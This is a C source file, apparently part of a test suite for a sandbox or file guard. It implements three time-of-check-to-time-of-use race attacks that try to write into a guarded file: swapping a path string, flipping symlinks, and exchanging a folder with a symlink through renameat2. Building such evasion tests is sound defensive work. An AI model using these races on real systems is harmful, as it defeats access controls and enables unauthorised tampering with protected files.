/* Ways that change what a path means while the kernel follows it: a check at another time than the use loses. */
#include "evade.h"
#include <linux/fs.h>
#include <pthread.h>

enum { TRIES = 4000 };

static volatile int over;
static char path[PATH_MAX];
static char decoy[PATH_MAX];

static void start(void *(*swap)(void *), pthread_t *thread)
{
	close(source());
	strcpy(decoy, in(outside, "source"));
	MUST(-!!pthread_create(thread, NULL, swap, NULL));
}

/* Opens until the victim was written, whatever the tries say in between. */
static void attack(const char *target)
{
	struct stat wanted, got;

	MUST(stat(victim, &wanted));
	for (int i = 0; i < TRIES; i++) {
		int fd = open(target, O_WRONLY);

		if (fd < 0) {
			if (errno != ENOENT && errno != ENOTDIR)
				snprintf(told->failed, sizeof(told->failed), "open: %s", strerror(errno));
		} else if (fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino && got.st_dev == wanted.st_dev && write(fd, "tampered", 8) == 8) {
			told->failed[0] = 0;
			told->number = i + 1;
			i = TRIES;
		}
		if (fd >= 0)
			close(fd);
		sched_yield();
	}
	over = 1;
}

static void *swap_text(void *unused)
{
	while (!over) {
		strcpy(path, decoy);
		sched_yield();
		strcpy(path, victim);
		sched_yield();
	}
	return unused;
}
static void by_text(void)
{
	pthread_t thread;

	strcpy(path, in(outside, "source"));
	start(swap_text, &thread);
	attack(path);
	pthread_join(thread, NULL);
}

static void *swap_symlink(void *unused)
{
	const char *name = in(outside, "link"), *next = in(outside, "next");

	for (int i = 0; !over; i++) {
		if (symlink(i % 2 ? victim : decoy, next) || rename(next, name))
			break;
		sched_yield();
	}
	return unused;
}
static void by_symlink(void)
{
	pthread_t thread;

	start(swap_symlink, &thread);
	attack(in(outside, "link"));
	pthread_join(thread, NULL);
}

/* A folder and a link to the guarded one change places. */
static void *swap_folder(void *unused)
{
	const char *a = in(outside, "folder"), *b = in(outside, "other");

	while (!over) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE))
			break;
		sched_yield();
	}
	return unused;
}
static void by_folder(void)
{
	pthread_t thread;

	MUST(mkdir(in(outside, "folder"), 0755));
	copy_file("/dev/null", in(outside, "folder/victim"), 0644);
	MUST(symlink(guarded, in(outside, "other")));
	start(swap_folder, &thread);
	attack(in(outside, "folder/victim"));
	pthread_join(thread, NULL);
}

const struct evasion race_ways[] = {
	{ "race-path-text", WRITE, by_text },
	{ "race-symlink", WRITE, by_symlink },
	{ "race-folder-exchange", WRITE, by_folder },
	{ 0 },
};
